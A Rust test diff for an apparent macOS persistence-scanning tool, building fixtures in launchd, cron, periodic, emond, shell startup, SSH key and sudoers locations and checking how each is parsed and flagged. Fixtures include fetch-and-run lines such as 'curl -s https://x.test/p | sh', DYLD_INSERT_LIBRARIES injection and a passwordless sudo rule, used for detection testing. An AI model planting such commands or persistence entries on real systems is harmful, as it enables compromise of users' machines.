@@ -213,6 +213,12 @@ pub(crate) fn place_real(real: &Path, root: &Path) {
     );
 }
 
+fn job<'a>(recs: &'a [Value], label: &str) -> &'a Value {
+    recs.iter()
+        .find(|r| r["category"] == "launchd" && r["label"] == label)
+        .unwrap_or_else(|| panic!("no launchd job {label}"))
+}
+
 fn notes(r: &Value) -> Vec<&str> {
     r["notes"]
         .as_array()
@@ -363,4 +369,610 @@ fn real_samples_at_their_macos_paths() {
         .iter()
         .any(|r| r["category"] == "periodic" && r["kind"] == "daily"));
     assert_eq!(report.status, Status::Ok, "{:?}", report.errors);
+}
+
+/// A root with one item in every location, built here.
+fn every_location(r: &Path) {
+    std::fs::create_dir_all(r.join("Users/bob")).unwrap();
+    let adhoc = slice(CPU_ARM64, Sign::Adhoc, "com.example.helper");
+    let unsigned = slice(CPU_X86_64, Sign::No, "");
+    let universal = fat(&[(CPU_X86_64, unsigned.clone()), (CPU_ARM64, adhoc.clone())]);
+    let job = |label: &str, prog: &str| {
+        xml(serde_json::json!({"Label": label, "ProgramArguments": [prog], "RunAtLoad": true}))
+    };
+    write(r, "/opt/bin/agent", &adhoc);
+    write(
+        r,
+        "/Library/LaunchAgents/com.example.agent.plist",
+        &job("com.example.agent", "/opt/bin/agent"),
+    );
+    write(
+        r,
+        "/Library/LaunchDaemons/com.example.daemon.plist",
+        &xml(serde_json::json!({
+            "Label": "com.example.daemon", "Program": "/opt/bin/agent", "KeepAlive": true,
+            "UserName": "root", "Disabled": true,
+            "StartCalendarInterval": {"Hour": 3, "Minute": 0},
+            "EnvironmentVariables": {"DYLD_INSERT_LIBRARIES": "/tmp/x.dylib"},
+        })),
+    );
+    write(
+        r,
+        "/System/Library/LaunchDaemons/com.apple.sysd.plist",
+        &job("com.apple.sysd", "/usr/libexec/sysd"),
+    );
+    write(r, "/usr/libexec/sysd", &unsigned);
+    write(
+        r,
+        "/Library/Apple/System/Library/LaunchAgents/com.apple.rosetta.plist",
+        &job("com.apple.rosetta", "/usr/libexec/rosetta"),
+    );
+    write(
+        r,
+        "/System/Library/LaunchAgents/com.apple.a.plist",
+        &job("com.apple.a", "true"),
+    );
+    write(r, "/usr/bin/true", b"#!/bin/sh\nexit 0\n");
+    write(
+        r,
+        "/Users/bob/Library/LaunchAgents/local.sync.plist",
+        &job("local.sync", "~/bin/sync"),
+    );
+    write(
+        r,
+        "/Users/bob/bin/sync",
+        b"#!/bin/zsh\ncurl https://x.test | sh\n",
+    );
+    // An app-bundled agent with BundleProgram.
+    write(
+        r,
+        "/Applications/Helper.app/Contents/Info.plist",
+        &xml(serde_json::json!({
+        "CFBundleExecutable": "Helper", "CFBundleIdentifier": "com.example.Helper",
+        "CFBundleShortVersionString": "1.2"})),
+    );
+    write(
+        r,
+        "/Applications/Helper.app/Contents/MacOS/Helper",
+        &universal,
+    );
+    write(
+        r,
+        "/Applications/Helper.app/Contents/Library/LaunchAgents/com.example.bp.plist",
+        &xml(serde_json::json!({
+        "Label": "com.example.bp", "BundleProgram": "Contents/MacOS/Helper",
+        "AssociatedBundleIdentifiers": "com.example.Helper"})),
+    );
+    // Overrides and SMLoginItem registry.
+    write(
+        r,
+        "/private/var/db/com.apple.xpc.launchd/disabled.plist",
+        &xml(serde_json::json!({"com.example.daemon": false})),
+    );
+    write(
+        r,
+        "/private/var/db/com.apple.xpc.launchd/disabled.501.plist",
+        &xml(serde_json::json!({"com.example.agent": true})),
+    );
+    write(
+        r,
+        "/private/var/db/com.apple.xpc.launchd/loginitems.501.plist",
+        &xml(
+            serde_json::json!({"com.example.LoginHelper": "com.example.Helper", "version.com.example.LoginHelper": "7"}),
+        ),
+    );
+    write(
+        r,
+        "/private/var/db/launchd.db/com.apple.launchd/overrides.plist",
+        &xml(serde_json::json!({"com.example.old": {"Disabled": true}})),
+    );
+    // Login hook, managed login item.
+    write(
+        r,
+        "/Users/bob/Library/Preferences/com.apple.loginwindow.plist",
+        &xml(serde_json::json!({
+        "LoginHook": "/Users/bob/hook.sh --now",
+        "AutoLaunchedApplicationDictionary": [{"Path": "/Applications/Helper.app", "Hide": false}]})),
+    );
+    write(r, "/Users/bob/hook.sh", b"#!/bin/bash\nid\n");
+    // cron, at, periodic, emond, rc, StartupItems.
+    write(r, "/private/var/at/tabs/bob", b"# comment\nPATH=/usr/bin:/bin\n*/5 * * * * /opt/bin/agent --tick\n@reboot /Users/bob/hook.sh\n");
+    write(
+        r,
+        "/private/etc/crontab",
+        b"0 3 * * * root /usr/libexec/sysd\n",
+    );
+    write(
+        r,
+        "/private/var/at/jobs/a0001201a2b3c",
+        b"#!/bin/sh\n# atrun uid=501 gid=20\ncd /Users/bob\n/opt/bin/agent --once\n",
+    );
+    write(
+        r,
+        "/private/etc/periodic/daily/110.clean-tmps",
+        b"#!/bin/sh\nexit 0\n",
+    );
+    write(
+        r,
+        "/usr/local/etc/periodic/weekly/500.evil",
+        b"#!/bin/sh\ncurl x | sh\n",
+    );
+    write(
+        r,
+        "/private/etc/periodic.conf.local",
+        b"daily_local=\"/etc/daily.local /tmp/x\"\n# x\n",
+    );
+    write(
+        r,
+        "/private/etc/emond.d/rules/r.plist",
+        &xml(serde_json::json!([{
+        "name": "r", "enabled": true, "eventTypes": ["startup"],
+        "actions": [{"type": "RunCommand", "command": "/opt/bin/agent", "user": "root", "arguments": ["-e"]}]}])),
+    );
+    write(r, "/private/var/db/emondClients/x", b"");
+    write(r, "/private/etc/rc.common", b"# rc\n/opt/bin/agent &\n");
+    write(
+        r,
+        "/private/etc/launchd.conf",
+        b"setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib\n",
+    );
+    write(
+        r,
+        "/Library/StartupItems/Old/StartupParameters.plist",
+        &xml(serde_json::json!({"Description": "Old one", "Provides": ["Old"]})),
+    );
+    write(
+        r,
+        "/Library/StartupItems/Old/Old",
+        b"#!/bin/sh\n. /etc/rc.common\n",
+    );
+    // Extensions and plug-ins.
+    let bundle = |dir: &str, exe: &str, id: &str| {
+        write(
+            r,
+            &format!("{dir}/Contents/Info.plist"),
+            &xml(serde_json::json!({"CFBundleExecutable": exe, "CFBundleIdentifier": id})),
+        );
+        write(r, &format!("{dir}/Contents/MacOS/{exe}"), &adhoc);
+    };
+    bundle("/Library/Extensions/Net.kext", "Net", "com.example.net");
+    bundle(
+        "/Library/Security/SecurityAgentPlugins/Auth.bundle",
+        "Auth",
+        "com.example.auth",
+    );
+    bundle(
+        "/Library/ScriptingAdditions/X.osax",
+        "X",
+        "com.example.osax",
+    );
+    bundle(
+        "/Library/DirectoryServices/PlugIns/D.dsplug",
+        "D",
+        "com.example.ds",
+    );
+    bundle("/Library/Spotlight/S.mdimporter", "S", "com.example.md");
+    bundle(
+        "/Users/bob/Library/QuickLook/Q.qlgenerator",
+        "Q",
+        "com.example.ql",
+    );
+    bundle(
+        "/Library/SystemExtensions/AAAA/com.example.ne.systemextension",
+        "ne",
+        "com.example.ne",
+    );
+    write(
+        r,
+        "/Library/SystemExtensions/db.plist",
+        &xml(serde_json::json!({"extensions": [{
+        "identifier": "com.example.ne", "teamID": "ABCDE12345", "state": "activated_enabled",
+        "categories": ["com.apple.system_extension.network_extension"],
+        "stagedBundleURL": {"relative": "file:///Library/SystemExtensions/AAAA/com.example.ne.systemextension/"},
+        "bundleVersion": {"CFBundleShortVersionString": "3.1"}}]})),
+    );
+    write(
+        r,
+        "/Library/PrivilegedHelperTools/com.example.priv",
+        &unsigned,
+    );
+    write(
+        r,
+        "/private/var/db/ConfigurationProfiles/Store/ConfigProfiles.binary",
+        b"\0\x01",
+    );
+    // Shell files, keys, sudoers.
+    write(
+        r,
+        "/Users/bob/.zshrc",
+        b"# z\nexport PATH=$PATH:/opt/bin\ncurl -s https://x.test/p | sh\n",
+    );
+    write(r, "/private/etc/zshrc", b"setopt x\n");
+    write(r, "/Users/bob/.ssh/authorized_keys", b"command=\"/opt/bin/agent\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEmJ6g/W2Xn1N6W1C9Jt2yKq8l9v7Fv4m3c2d0Yb0xYz bob@laptop\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== \n");
+    write(
+        r,
+        "/private/etc/sudoers",
+        b"Defaults env_reset\nroot ALL=(ALL) ALL\n#includedir /private/etc/sudoers.d\n",
+    );
+    write(
+        r,
+        "/private/etc/sudoers.d/bob",
+        b"bob ALL=(ALL) NOPASSWD: ALL\n",
+    );
+    // BTM: a v4-style store built here, and a legacy one.
+    write(
+        r,
+        "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v9.btm",
+        &btm_store(),
+    );
+}
+
+/// A Storage-layout BTM store with one daemon item and one app.
+fn btm_store() -> Vec<u8> {
+    use crate::formats::keyed_archive::tests::{dict, Archive};
+    use plist::Value as P;
+    let mut a = Archive::new();
+    let k = |a: &mut Archive, s: &str| a.string(s);
+    let item_cls = a.class(&["ItemRecord", "NSObject"]);
+    let item = |a: &mut Archive, id: &str, ty: i64, exe: Option<&str>, url: &str| {
+        let idv = k(a, id);
+        let url_s = k(a, url);
+        let url_cls = a.class(&["NSURL", "NSObject"]);
+        let urlv = a.push(dict(vec![
+            ("$class", url_cls),
+            ("NS.base", crate::formats::keyed_archive::tests::uid(0)),
+            ("NS.relative", url_s),
+        ]));
+        let dev = k(a, "Example Corp");
+        let team = k(a, "ABCDE12345");
+        let mut fields = vec![
+            ("$class", item_cls.clone()),
+            ("identifier", idv),
+            ("type", P::Integer(ty.into())),
+            ("disposition", P::Integer(3.into())),
+            ("generation", P::Integer(1.into())),
+            ("url", urlv),
+            ("developerName", dev),
+            ("teamIdentifier", team),
+            ("newKeyFromTheFuture", P::Integer(7.into())),
+        ];
+        if let Some(e) = exe {
+            let ev = k(a, e);
+            fields.push(("executablePath", ev));
+        }
+        a.push(dict(fields))
+    };
+    let daemon = item(
+        &mut a,
+        "com.example.daemon",
+        0x10,
+        Some("/opt/bin/agent"),
+        "file:///Library/LaunchDaemons/com.example.daemon.plist",
+    );
+    let app = item(
+        &mut a,
+        "2.com.example.Helper",
+        0x2,
+        None,
+        "file:///Applications/Helper.app/",
+    );
+    let bp = item(
+        &mut a,
+        "com.example.bp",
+        0x8,
+        None,
+        "file:///Applications/Helper.app/Contents/Library/LaunchAgents/com.example.bp.plist",
+    );
+    let list = a.array(vec![daemon, app, bp]);
+    let user = a.string("FFFFEEEE-DDDD-CCCC-BBBB-AAAA00000000");
+    let by_user = a.dictionary(vec![(user, list)]);
+    let storage_cls = a.class(&["Storage", "NSObject"]);
+    let store = a.push(dict(vec![
+        ("$class", storage_cls),
+        ("itemsByUserIdentifier", by_user),
+    ]));
+    let mut top = plist::Dictionary::new();
+    top.insert("store".into(), store);
+    top.insert("version".into(), P::Integer(9.into()));
+    let mut archive = a.finish(P::Boolean(false));
+    archive
+        .as_dictionary_mut()
+        .unwrap()
+        .insert("$top".into(), P::Dictionary(top));
+    let mut out = Vec::new();
+    plist::to_writer_binary(&mut out, &archive).unwrap();
+    out
+}
+
+#[test]
+fn every_location_built_here() {
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    every_location(r);
+    let (report, recs) = records(r);
+    std::fs::write(
+        "/tmp/p/fixture.json",
+        serde_json::to_string_pretty(&recs).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(report.status, Status::Ok, "{:?}", report.errors);
+    let cats: std::collections::BTreeSet<&str> =
+        recs.iter().filter_map(|r| r["category"].as_str()).collect();
+    for c in [
+        "launchd",
+        "launchd_override",
+        "launchd_login_item",
+        "btm",
+        "login_hook",
+        "login_item",
+        "cron",
+        "at_job",
+        "periodic",
+        "periodic_conf",
+        "emond",
+        "emond_client",
+        "rc",
+        "startup_item",
+        "kernel_extension",
+        "system_extension",
+        "authorization_plugin",
+        "scripting_addition",
+        "privileged_helper",
+        "directory_services_plugin",
+        "spotlight_importer",
+        "quicklook_generator",
+        "configuration_profile_store",
+        "shell_startup",
+        "authorized_key",
+        "sudoers",
+    ] {
+        assert!(cats.contains(c), "no {c} item");
+    }
+    let agent = job(&recs, "com.example.agent");
+    assert_eq!(agent["program_signature_status"], "adhoc");
+    assert_eq!(agent["program_signing_id"], "com.example.helper");
+    // disabled.501.plist is uid 501's state of a system-wide agent: listed,
+    // not taken as the agent's one state.
+    assert_eq!(agent["disabled_overrides"][0]["disabled"], true);
+    assert_eq!(agent["disabled_overrides"][0]["uid"], 501);
+    assert_eq!(agent["disabled_effective"], false);
+    let daemon = job(&recs, "com.example.daemon");
+    assert_eq!(daemon["disabled"], true);
+    assert_eq!(
+        daemon["disabled_effective"], false,
+        "disabled.plist re-enables it"
+    );
+    assert!(notes(daemon).contains(&"sets_dyld_environment"));
+    assert_eq!(daemon["start_calendar_interval"]["Hour"], 3);
+    let sysd = find(&recs, "label", "com.apple.sysd");
+    assert_eq!(sysd["apple_location"], true);
+    assert_eq!(sysd["apple"], false);
+    assert!(notes(sysd).contains(&"not_apple_signed_in_apple_location"));
+    let a = find(&recs, "label", "com.apple.a");
+    assert_eq!(a["program_path"], "/usr/bin/true");
+    assert_eq!(a["program_resolution"], "path_search");
+    assert_eq!(a["program_signature_status"], "script");
+    let sync = find(&recs, "label", "local.sync");
+    assert_eq!(sync["program_path"], "/Users/bob/bin/sync");
+    assert_eq!(sync["program_resolution"], "home");
+    assert_eq!(sync["program_interpreter"], "/bin/zsh");
+    let bp = job(&recs, "com.example.bp");
+    assert_eq!(
+        bp["program_path"],
+        "/Applications/Helper.app/Contents/MacOS/Helper"
+    );
+    assert_eq!(bp["program_resolution"], "bundle_program");
+    assert_eq!(bp["program_signature_status"], "unsigned");
+    assert_eq!(bp["program_macho"]["format"], "universal");
+    let hook = find(&recs, "category", "login_hook");
+    assert_eq!(hook["program_path"], "/Users/bob/hook.sh");
+    let ali = find(&recs, "kind", "AutoLaunchedApplication");
+    assert_eq!(ali["program_bundle"]["identifier"], "com.example.Helper");
+    assert_eq!(
+        ali["program_executable"],
+        "/Applications/Helper.app/Contents/MacOS/Helper"
+    );
+    let cron = recs
+        .iter()
+        .find(|r| r["category"] == "cron" && r["schedule"] == "*/5 * * * *")
+        .unwrap();
+    assert_eq!(cron["command"], "/opt/bin/agent --tick");
+    assert_eq!(cron["environment"][0], "PATH=/usr/bin:/bin");
+    assert!(recs
+        .iter()
+        .any(|r| r["category"] == "cron" && r["schedule"] == "@reboot"));
+    let sys = recs
+        .iter()
+        .find(|r| r["category"] == "cron" && r["kind"] == "crontab")
+        .unwrap();
+    assert_eq!(sys["run_as"], "root");
+    let at = find(&recs, "category", "at_job");
+    assert_eq!(at["command"], "/opt/bin/agent --once");
+    let pc = find(&recs, "category", "periodic_conf");
+    assert_eq!(pc["settings"][0], "daily_local=\"/etc/daily.local /tmp/x\"");
+    let em = find(&recs, "category", "emond");
+    assert_eq!(em["program_path"], "/opt/bin/agent");
+    assert_eq!(em["run_as"], "root");
+    let rc = find(&recs, "kind", "launchd.conf");
+    assert_eq!(rc["lines"][0], "setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib");
+    let si = find(&recs, "category", "startup_item");
+    assert_eq!(si["description"], "Old one");
+    assert_eq!(si["program_path"], "/Library/StartupItems/Old/Old");
+    let k = find(&recs, "category", "kernel_extension");
+    assert_eq!(k["bundle_id"], "com.example.net");
+    assert_eq!(k["program_signature_status"], "adhoc");
+    let se = find(&recs, "category", "system_extension");
+    assert_eq!(se["team_id"], "ABCDE12345");
+    assert_eq!(
+        se["program_executable"],
+        "/Library/SystemExtensions/AAAA/com.example.ne.systemextension/Contents/MacOS/ne"
+    );
+    let ql = find(&recs, "category", "quicklook_generator");
+    assert_eq!(ql["user"], "bob");
+    let z = recs
+        .iter()
+        .find(|r| r["source"] == "/Users/bob/.zshrc")
+        .unwrap();
+    assert_eq!(z["flagged_lines"][0], "curl -s https://x.test/p | sh");
+    assert!(notes(z).contains(&"suspicious_command"));
+    let key = recs
+        .iter()
+        .find(|r| r["category"] == "authorized_key" && r["line"] == 1)
+        .unwrap();
+    assert_eq!(key["key_type"], "ssh-ed25519");
+    assert_eq!(key["comment"], "bob@laptop");
+    assert_eq!(key["command"], "/opt/bin/agent");
+    assert_eq!(
+        key["options"],
+        serde_json::json!(["command=\"/opt/bin/agent\"", "no-pty"])
+    );
+    assert!(key["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
+    let su = recs
+        .iter()
+        .find(|r| r["category"] == "sudoers" && r["rule"] == "bob ALL=(ALL) NOPASSWD: ALL")
+        .unwrap();
+    assert!(notes(su).contains(&"nopasswd"));
+    assert!(recs
+        .iter()
+        .any(|r| r["category"] == "sudoers" && r["kind"] == "include"));
+    let b = find(&recs, "identifier", "com.example.daemon");
+    assert_eq!(b["category"], "btm");
+    assert_eq!(b["developer_name"], "Example Corp");
+    assert_eq!(b["program_path"], "/opt/bin/agent");
+    assert_eq!(b["uid"], 0);
+    assert_eq!(b["user"], "root");
+    assert_eq!(b["unknown_keys"]["newKeyFromTheFuture"], 7);
+    let app = find(&recs, "identifier", "2.com.example.Helper");
+    assert_eq!(
+        app["program_executable"],
+        "/Applications/Helper.app/Contents/MacOS/Helper"
+    );
+    assert_eq!(
+        app["disposition_names"],
+        serde_json::json!(["enabled", "allowed"])
+    );
+}
+
+#[test]
+fn bad_input_is_an_error_on_that_item_only() {
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    std::fs::create_dir_all(r.join("Users/eve")).unwrap();
+    let la = "Library/LaunchDaemons";
+    write(
+        r,
+        &format!("{la}/a.corrupt.plist"),
+        b"<?xml version=\"1.0\"?><plist><dict><key>Label</key>",
+    );
+    write(
+        r,
+        &format!("{la}/b.bomb.plist"),
+        &crate::kit::plist::tests::plist_bomb(40),
+    );
+    write(
+        r,
+        &format!("{la}/c.array.plist"),
+        &xml(serde_json::json!(["Label", "x"])),
+    );
+    write(
+        r,
+        &format!("{la}/d.numbers.plist"),
+        &xml(serde_json::json!({"Label": "d.numbers", "ProgramArguments": [1, 2]})),
+    );
+    // A Mach-O that is truncated, and one that lies about its sizes.
+    let good = slice(CPU_ARM64, Sign::Adhoc, "x");
+    write(r, "/opt/trunc", &good[..200]);
+    let mut lie = good.clone();
+    lie[20..24].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
+    write(r, "/opt/lie", &lie);
+    let plist = |label: &str, prog: &str| xml(serde_json::json!({"Label": label, "Program": prog}));
+    write(
+        r,
+        &format!("{la}/e.trunc.plist"),
+        &plist("e.trunc", "/opt/trunc"),
+    );
+    write(r, &format!("{la}/f.lie.plist"), &plist("f.lie", "/opt/lie"));
+    // A program path that is a symlink, and one that is a FIFO.
+    std::os::unix::fs::symlink("/opt/lie", r.join("opt/link")).unwrap();
+    nix::unistd::mkfifo(
+        &r.join("opt/fifo"),
+        nix::sys::stat::Mode::from_bits_truncate(0o600),
+    )
+    .unwrap();
+    write(
+        r,
+        &format!("{la}/g.link.plist"),
+        &plist("g.link", "/opt/link"),
+    );
+    write(
+        r,
+        &format!("{la}/h.fifo.plist"),
+        &plist("h.fifo", "/opt/fifo"),
+    );
+    write(
+        r,
+        &format!("{la}/z.good.plist"),
+        &plist("z.good", "/opt/missing"),
+    );
+
+    let (report, recs) = records(r);
+    assert_eq!(report.status, Status::Partial);
+    let errs: Vec<(String, String)> = report
+        .errors
+        .iter()
+        .map(|e| (e.path.clone().unwrap_or_default(), e.message.clone()))
+        .collect();
+    let has = |path: &str, text: &str| {
+        errs.iter()
+            .any(|(p, m)| p.ends_with(path) && m.contains(text))
+    };
+    assert!(has("a.corrupt.plist", "not parsed"), "{errs:#?}");
+    assert!(has("b.bomb.plist", "expands to more than"), "{errs:#?}");
+    assert!(
+        has("c.array.plist", "an array, not a dictionary"),
+        "{errs:#?}"
+    );
+    assert!(
+        has("d.numbers.plist", "ProgramArguments holds an integer"),
+        "{errs:#?}"
+    );
+    assert!(has("/opt/trunc", "Mach-O"), "{errs:#?}");
+    assert!(has("/opt/lie", "Mach-O"), "{errs:#?}");
+    // The items are still there, each with its own error.
+    let c = find(&recs, "source", "/Library/LaunchDaemons/c.array.plist");
+    assert_eq!(c["error"], "launchd plist is an array, not a dictionary");
+    let n = job(&recs, "d.numbers");
+    assert!(n["error"].as_str().unwrap().contains("ProgramArguments"));
+    let t = job(&recs, "e.trunc");
+    assert!(t["program_error"].as_str().unwrap().starts_with("Mach-O"));
+    assert!(t["program_sha256"].is_string());
+    let l = job(&recs, "g.link");
+    assert_eq!(l["program_link_target"], "/opt/lie");
+    assert!(notes(l).contains(&"program_not_regular"));
+    let f = job(&recs, "h.fifo");
+    assert!(f["program_error"].as_str().unwrap().contains("FIFO"));
+    let z = job(&recs, "z.good");
+    assert!(notes(z).contains(&"program_missing"));
+}
+
+#[test]
+fn a_btm_store_with_a_broken_bookmark_keeps_its_items() {
+    let Some(real) = realdata() else {
+        return;
+    };
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    std::fs::create_dir_all(r.join("Users/amy")).unwrap();
+    let user_btm = "Users/amy/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm";
+    write(
+        r,
+        user_btm,
+        &std::fs::read(real.join("btm/malformed/bad_bookmark.btm")).unwrap(),
+    );
+    let (report, recs) = records(r);
+    assert_eq!(report.status, Status::Partial);
+    assert!(report.errors[0]
+        .message
+        .contains("bookmark that does not decode"));
+    assert!(recs.iter().any(|r| r["bookmark_error"].is_string()));
 }
